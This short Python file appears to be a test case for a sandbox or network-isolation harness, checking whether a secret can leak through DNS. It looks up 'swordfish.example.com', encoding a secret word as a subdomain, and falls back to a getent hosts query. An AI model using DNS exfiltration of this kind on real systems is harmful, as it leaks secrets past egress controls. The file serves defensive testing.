"""Asks for a name that carries a secret."""

import socket
import subprocess

from attack import attempt

attempt(
    lambda: socket.getaddrinfo("swordfish.example.com", 80),
    lambda: subprocess.run(["getent", "hosts", "example.com"], capture_output=True, timeout=3).stdout,
)
